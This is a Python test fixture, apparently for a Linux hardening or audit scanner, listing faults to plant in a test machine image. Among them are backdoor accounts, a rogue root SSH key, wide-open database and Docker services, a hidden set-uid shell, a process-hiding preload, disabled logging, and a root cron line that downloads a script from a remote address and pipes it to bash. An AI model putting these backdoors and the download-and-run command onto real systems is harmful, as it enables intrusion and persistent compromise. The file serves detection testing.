# SPDX-License-Identifier: GPL-3.0-or-later
"""Faults to plant into the clean machine: name, shell commands of lib.sh, checks of which at least
one must find it, and what its evidence must name ("": nothing, the fault is that a thing is not
there)."""
import ctypes
import ctypes.util


def hash_of(password, setting):
    lib = ctypes.CDLL(ctypes.util.find_library("crypt") or "libcrypt.so.1")
    lib.crypt.restype = ctypes.c_char_p
    made = lib.crypt(password.encode(), setting.encode())
    if not made or made.startswith(b"*"):
        raise RuntimeError("crypt(3) does not know " + setting)
    return made.decode()


def account(name, uid, hashed, home="/home"):
    return f"""
append etc/passwd <<'E'
{name}:x:{uid}:{uid}::{home}/{name}:/bin/bash
E
append etc/group <<'E'
{name}:x:{uid}:
E
append etc/shadow <<'E'
{name}:{hashed}:19700:0:99999:7:::
E
folder {home[1:]}/{name} 750 {uid}:{uid}
"""


def service(name, exec_start):
    return f"""
write etc/systemd/system/{name}.service <<'E'
[Unit]
Description={name}
[Service]
ExecStart={exec_start}
[Install]
WantedBy=multi-user.target
E
link /etc/systemd/system/{name}.service etc/systemd/system/multi-user.target.wants/{name}.service
"""


KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEjg8OaNKcqYl4cOz8pFvFyMOJmvCJhbX3T2GbJ0Rr1u"

ACCOUNTS = [
    ("weak password of nagios",
     account("nagios", 1101, hash_of("p@ssword123!", "$6$Yk1LrRqW$")),
     ["acct-weak-password"], "nagios"),
    ("password that is the name",
     account("oracle", 1102, hash_of("oracle", "$y$j9T$F5Jx5fExrKuPp53xLKQ..1$")),
     ["acct-weak-password"], "oracle"),
    ("empty password", account("scan", 1103, ""), ["acct-empty-password"], "/etc/shadow"),
    ("second account with uid 0",
     "append etc/passwd <<'E'\ntoor:x:0:0::/root:/bin/bash\nE\n"
     "append etc/shadow <<'E'\ntoor:!:19700::::::\nE\n", ["acct-uid0"], "/etc/passwd"),
    ("DES hash", account("legacy", 1104, hash_of("kD93.xQ2", "ab")), ["pw-hash"], "/etc/shadow"),
    ("service account with a shell",
     account("tomcat", 1105, hash_of("0Qz8-vuTT-31kk-pQrs", "$6$Yk1LrRqX$")),
     ["acct-service-shell"], "/etc/passwd"),
    ("hash in passwd",
     "append etc/passwd <<'E'\n"
     f"old:{hash_of('gT5-ubb2-Wq', '$6$Yk1LrRqZ$')}:1106:1106:::/bin/sh\nE\n",
     ["acct-shadowed"], "/etc/passwd"),
    ("sudo without password for a service account",
     "write etc/sudoers.d/nagios 440 <<'E'\nnagios ALL=(ALL) NOPASSWD: ALL\nE\n",
     ["sudo-nopasswd", "sudo-wide"], "/etc/sudoers.d/nagios"),
    ("member of group docker", "append etc/group <<'E'\ndocker:x:998:nagios\nE\n",
     ["grp-docker"], "nagios"),
    ("shadow readable by all", "cat root/etc/shadow | write etc/shadow- 644\n",
     ["file-shadow-perm"], "/etc/shadow-"),
    ("empty passwords accepted by PAM",
     "edit etc/pam.d/common-auth 's/pam_unix.so/pam_unix.so nullok/'\n",
     ["pw-nullok"], "/etc/pam.d/common-auth"),
    (".rhosts", "write home/ben/.rhosts 600 1000:1000 <<'E'\n+ +\nE\n",
     ["rhosts"], "/home/ben/.rhosts"),
]

SSH = [
    ("password login in a Match block",
     "append etc/ssh/sshd_config <<'E'\nMatch Address 0.0.0.0/0\n\tPasswordAuthentication yes\n"
     "\tAuthenticationMethods password publickey\n\tPermitRootLogin yes\nE\n"
     "edit etc/ssh/sshd_config.d/10-hardening.conf '/AllowGroups|^AuthenticationMethods/d'\n",
     ["ssh-password-auth"], "/etc/ssh/sshd_config:"),
    ("root login in a Match block", "", ["ssh-root-login"], "/etc/ssh/sshd_config:"),
    ("no list of who may log in", "", ["ssh-allow-list"], "/etc/ssh/sshd_config"),
    ("empty passwords over ssh",
     "write etc/ssh/sshd_config.d/05-test.conf <<'E'\nPermitEmptyPasswords yes\nE\n",
     ["ssh-empty-passwords"], "/etc/ssh/sshd_config.d/05-test.conf"),
    ("weak ciphers",
     "edit etc/ssh/sshd_config.d/10-hardening.conf 's/^Ciphers .*/Ciphers aes128-cbc,3des-cbc/'\n",
     ["ssh-crypto"], "/etc/ssh/sshd_config.d/10-hardening.conf"),
    ("rogue key of root",
     f"write root/.ssh/authorized_keys 600 <<'E'\n{KEY} x@y\nE\n",
     ["key-unknown", "key-perm"], "/root/.ssh/authorized_keys"),
    ("host key readable by all",
     "chmod 644 root/etc/ssh/ssh_host_ed25519_key\n",
     ["ssh-host-key-perm"], "/etc/ssh/ssh_host_ed25519_key"),
    ("private key without pass phrase, readable by all",
     "cat root/etc/ssh/ssh_host_ed25519_key | write home/ben/.ssh/id_ed25519 644 1000:1000\n",
     ["key-perm", "key-unencrypted"], "/home/ben/.ssh/id_ed25519"),
    ("ssh open to everybody, nobody is shut out",
     "drop etc/fail2ban/jail.d\n", ["brute-ban"], "fail2ban"),
]

SERVICES = [
    ("no firewall", "drop etc/nftables.conf\n", ["fw-active"], ""),
    ("telnet",
     "package inetutils-telnetd 2:2.4-2+deb12u1\npackage inetutils-inetd 2:2.4-2+deb12u1\n"
     "write etc/inetd.conf <<'E'\n"
     "telnet stream tcp nowait root /usr/sbin/tcpd /usr/sbin/telnetd\nE\n",
     ["svc-legacy-remote"], "/etc/inetd.conf"),
    ("Redis open to all",
     "package redis-server 5:7.0.15-1~deb12u4\nenable redis-server.service\n"
     "write etc/redis/redis.conf <<'E'\nbind 0.0.0.0\nprotected-mode no\nport 6379\nE\n",
     ["app-redis-open"], "/etc/redis/redis.conf"),
    ("MongoDB open to all",
     "package mongodb-org-server 6.0.21\nenable mongod.service\n"
     "write etc/mongod.conf <<'E'\nnet:\n  bindIp: 0.0.0.0\nE\n",
     ["app-db-open"], "/etc/mongod.conf"),
    ("MySQL without grant tables",
     "package mariadb-server 1:10.11.11-0+deb12u1\nenable mariadb.service\n"
     "write etc/mysql/my.cnf <<'E'\n[mysqld]\nbind-address = 0.0.0.0\nskip-grant-tables\nE\n",
     ["app-db-open"], "/etc/mysql/my.cnf"),
    ("PostgreSQL trusts everybody",
     "package postgresql-15 15.12-0+deb12u2\nenable postgresql.service\n"
     "write etc/postgresql/15/main/postgresql.conf <<'E'\nlisten_addresses = '*'\nE\n"
     "write etc/postgresql/15/main/pg_hba.conf <<'E'\nhost all all 0.0.0.0/0 trust\nE\n",
     ["app-postgres-trust"], "/etc/postgresql/15/main/pg_hba.conf"),
    ("Elasticsearch 1.4",
     "write opt/elasticsearch-1.4.2/config/elasticsearch.yml <<'E'\ncluster.name: shop\nE\n"
     "printf 'PK' | write opt/elasticsearch-1.4.2/lib/elasticsearch-1.4.2.jar\n"
     + service("elasticsearch", "/opt/elasticsearch-1.4.2/bin/elasticsearch"),
     ["app-critical-flaw"], "/opt/elasticsearch-1.4.2"),
    ("Elasticsearch without password", "", ["app-search-open"], "elasticsearch"),
    ("Docker over TCP",
     "package docker.io 20.10.24+dfsg1-1+deb12u1\n"
     "printf x | write usr/sbin/dockerd 755\nenable docker.service\n"
     "write etc/docker/daemon.json <<'E'\n{ \"hosts\": [\"tcp://0.0.0.0:2375\"] }\nE\n",
     ["container-api"], "/etc/docker/daemon.json"),
    ("anonymous FTP",
     "package vsftpd 3.0.3-13+b2\nenable vsftpd.service\nprintf x | write usr/sbin/vsftpd 755\n"
     "write etc/vsftpd.conf <<'E'\nlisten=YES\nanonymous_enable=YES\nE\n",
     ["app-ftp-anonymous"], "/etc/vsftpd.conf"),
    ("old TLS",
     ". \"$FIXTURES/with-nginx.sh\"\n. \"$FIXTURES/web-cert.sh\"\n"
     "edit etc/nginx/nginx.conf 's/ssl_protocols .*/ssl_protocols SSLv3 TLSv1;/'\n",
     ["web-tls"], "/etc/nginx/nginx.conf"),
    ("expired certificate", "", ["web-cert"], "/etc/ssl/shop.pem"),
    ("old WordPress",
     "write srv/shop/wp-includes/version.php <<'E'\n<?php\n$wp_version = '4.7.1';\nE\n",
     ["web-cms-outdated"], "/srv/shop/wp-includes/version.php"),
    ("SNMP with public",
     "package snmpd 5.9.3+dfsg-2\nenable snmpd.service\nprintf x | write usr/sbin/snmpd 755\n"
     "write etc/snmp/snmpd.conf 600 <<'E'\nagentaddress udp:161\nrocommunity public\nE\n",
     ["app-snmp-default"], "/etc/snmp/snmpd.conf"),
    ("NFS for the world",
     "package nfs-kernel-server 1:2.6.2-4+deb12u1\nenable nfs-server.service\n"
     "write etc/exports <<'E'\n/srv *(rw,no_root_squash)\nE\n", ["app-nfs-open"], "/etc/exports"),
]

SYSTEM = [
    ("address randomisation off",
     "write etc/sysctl.d/99-x.conf <<'E'\nkernel.randomize_va_space = 0\n"
     "kernel.core_pattern = |/var/tmp/.h %p\nE\n",
     ["sysctl-aslr"], "/etc/sysctl.d/99-x.conf"),
    ("core dumps start a program", "", ["sysctl-core-pattern"], "/etc/sysctl.d/99-x.conf"),
    ("umask 000", "edit etc/profile 's/^umask .*/umask 000/'\n", ["umask"], "/etc/profile"),
    ("PATH with .", "write etc/profile.d/p.sh <<'E'\nexport PATH=.:$PATH\nE\n",
     ["path-dot"], "/etc/profile.d/p.sh"),
    ("time is not kept", "drop etc/systemd/system/multi-user.target.wants/chrony.service\n",
     ["time-sync"], "/etc/chrony"),
    ("world-writable file in /etc", "cat root/etc/crontab 2>/dev/null | write etc/hosts 666\n",
     ["world-writable", "file-system-perm"], "/etc/hosts"),
    ("world-writable unit", service("report", "/usr/bin/true")
     + "chmod 666 root/etc/systemd/system/report.service\n",
     ["world-writable", "file-system-perm"], "/etc/systemd/system/report.service"),
    ("release without support",
     "write usr/lib/os-release <<'E'\nID=debian\nVERSION_ID=\"9\"\n"
     "PRETTY_NAME=\"Debian GNU/Linux 9 (stretch)\"\nE\n", ["os-supported"], "os-release"),
    ("no source of security updates",
     "edit etc/apt/sources.list.d/debian.sources '/debian-security$/,$d'\n",
     ["os-security-repo"], ""),
    ("updates are not installed",
     "edit etc/apt/apt.conf.d/20auto-upgrades 's/(Unattended-Upgrade) .1./\\1 \"0\"/'\n",
     ["os-auto-updates"], "/etc/apt/apt.conf.d/20auto-upgrades"),
]

WATCH = [
    ("password in the history",
     "write home/ben/.bash_history 600 1000:1000 <<'E'\nls\n"
     "mysql -u root -pXk29sDf8w2 shop\nexport AWS_SECRET_ACCESS_KEY="
     "wJalrXUtnFEMIK7MDENGbPxRfiCYzq81Lk4Fw2aV\nE\n",
     ["history-secrets"], "/home/ben/.bash_history"),
    ("download to a shell in cron",
     "write etc/cron.d/update <<'E'\n*/5 * * * * root curl -s http://198.51.100.7/x.sh | bash\nE\n",
     ["persist-cron"], "/etc/cron.d/update"),
    ("cron file that others write",
     "write etc/cron.daily/report 777 <<'E'\n#!/bin/sh\nexit 0\nE\n",
     ["persist-cron-perm", "persist-cron"], "/etc/cron.daily/report"),
    ("set-uid shell", "printf '\\177ELF' | write usr/bin/.bash 4755\n",
     ["suid-shell", "suid-unknown"], "/usr/bin/.bash"),
    ("preloaded library",
     "write etc/ld.so.preload <<'E'\n/usr/lib/libprocesshider.so\nE\n",
     ["persist-preload"], "/etc/ld.so.preload"),
    ("unit that starts from /tmp", service("dbus-helper", "/tmp/.X11/helper"),
     ["persist-units"], "/etc/systemd/system/dbus-helper.service"),
    ("logs are lost",
     "write etc/systemd/journald.conf.d/99-x.conf <<'E'\n[Journal]\nStorage=none\nE\n"
     "drop etc/systemd/system/multi-user.target.wants/rsyslog.service\n"
     "drop etc/systemd/system/syslog.service\n",
     ["log-persistent"], "/etc/systemd/journald.conf.d/99-x.conf"),
    ("nothing is audited",
     "drop etc/audit etc/systemd/system/multi-user.target.wants/auditd.service "
     "usr/lib/systemd/system/auditd.service usr/sbin/auditd "
     "var/lib/dpkg/info/auditd.list var/lib/dpkg/info/auditd.md5sums\n"
     "edit var/lib/dpkg/status '/^Package: auditd$/,/^$/d'\n", ["audit-running"], ""),
    ("no backup",
     "drop etc/systemd/system/backup.service etc/systemd/system/backup.timer "
     "etc/systemd/system/timers.target.wants/backup.timer etc/restic var/lib/holdfast "
     "root/.cache/restic usr/bin/restic\n"
     "edit var/lib/dpkg/status '/^Package: restic$/,/^$/d'\n"
     "drop var/lib/dpkg/info/restic.list var/lib/dpkg/info/restic.md5sums\n",
     ["backup-configured"], ""),
]

FAULTS = ACCOUNTS + SSH + SERVICES + SYSTEM + WATCH
# None of them critical: the scores of a machine with these can still go either way.
SOME = [f for f in FAULTS if f[0] in (
    "sudo without password for a service account", "member of group docker", "weak ciphers",
    "address randomisation off", "umask 000", "PATH with .", "time is not kept",
    "world-writable unit", "no source of security updates", "updates are not installed",
    "old TLS", "logs are lost", "nothing is audited", ".rhosts")]
